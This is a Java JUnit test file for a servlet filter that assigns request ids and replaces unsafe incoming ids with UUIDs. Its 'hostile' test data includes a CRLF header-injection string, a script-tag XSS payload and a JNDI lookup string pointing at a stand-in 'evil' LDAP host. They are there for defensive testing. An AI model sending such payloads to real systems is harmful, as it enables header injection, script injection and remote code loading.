package org.lodestone.web;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.servlet.DispatcherType;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicReference;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.lodestone.shared.RequestIds;
import org.slf4j.MDC;
import org.springframework.mock.web.MockFilterChain;
import org.springframework.mock.web.MockHttpServletRequest;
import org.springframework.mock.web.MockHttpServletResponse;

/** Every request gets an id in the MDC and the response; hostile incoming ids never reach logs or headers. */
class RequestIdTests {

    private final RequestIdFilter filter = new RequestIdFilter();

    /** Runs the filter and returns the id the chain saw in the MDC, and the response. */
    private Result run(MockHttpServletRequest request) throws Exception {
        var seen = new AtomicReference<String>();
        var response = new MockHttpServletResponse();
        var chain = new MockFilterChain(new HttpServlet() {
            @Override
            protected void service(HttpServletRequest req, HttpServletResponse res) {
                seen.set(MDC.get(RequestIds.MDC_KEY));
            }
        });
        filter.doFilter(request, response, chain);
        return new Result(seen.get(), response);
    }

    record Result(String inMdc, MockHttpServletResponse response) {}

    @ParameterizedTest
    @ValueSource(strings = {"abc", "0f8fad5b-d9cb-469f-a165-70867728950e", "lb.trace_01-x", "A"})
    void acceptableIncomingIdIsEchoedAndLogged(String incoming) throws Exception {
        var request = new MockHttpServletRequest("GET", "/");
        request.addHeader(RequestIds.HEADER, incoming);
        var result = run(request);
        assertThat(result.response().getHeader(RequestIds.HEADER)).isEqualTo(incoming);
        assertThat(result.inMdc()).isEqualTo(incoming);
        assertThat(MDC.get(RequestIds.MDC_KEY)).as("cleared after the request").isNull();
    }

    static Stream<String> hostile() {
        return Stream.of(
                "abc\r\nSet-Cookie: session=stolen",
                "line\nbreak",
                "x".repeat(65),
                "x".repeat(200),
                "with space",
                "<script>alert(1)</script>",
                "ümlaut",
                "",
                "${jndi:ldap://evil/a}");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileIncomingIdIsReplacedByUuid(String incoming) throws Exception {
        var request = new MockHttpServletRequest("GET", "/");
        request.addHeader(RequestIds.HEADER, incoming);
        var result = run(request);
        String id = result.response().getHeader(RequestIds.HEADER);
        assertThat(id).isNotEqualTo(incoming);
        assertThat(UUID.fromString(id).toString()).isEqualTo(id);
        assertThat(result.inMdc()).isEqualTo(id);
    }

    @Test
    void missingIdIsGeneratedAndDiffersPerRequest() throws Exception {
        var first = run(new MockHttpServletRequest("GET", "/")).response().getHeader(RequestIds.HEADER);
        var second = run(new MockHttpServletRequest("GET", "/")).response().getHeader(RequestIds.HEADER);
        assertThat(first).isNotBlank().isNotEqualTo(second);
    }

    @Test
    void errorDispatchKeepsTheOriginalId() throws Exception {
        var request = new MockHttpServletRequest("GET", "/missing");
        request.addHeader(RequestIds.HEADER, "original-1");
        run(request);
        // The container renders /error later, with the same request object but a fresh filter pass.
        request.setDispatcherType(DispatcherType.ERROR);
        request.removeHeader(RequestIds.HEADER);
        var result = run(request);
        assertThat(result.inMdc()).isEqualTo("original-1");
    }

    @Test
    void uncaughtExceptionBecomesA500ErrorDispatchNotAContainerTrace() throws Exception {
        var request = new MockHttpServletRequest("GET", "/");
        var response = new MockHttpServletResponse();
        filter.doFilter(request, response, (req, res) -> {
            throw new IllegalStateException("boom");
        });
        assertThat(response.getStatus()).isEqualTo(500);
        assertThat(request.getAttribute(jakarta.servlet.RequestDispatcher.ERROR_EXCEPTION))
                .isInstanceOf(IllegalStateException.class);
        assertThat(MDC.get(RequestIds.MDC_KEY)).isNull();
    }
}
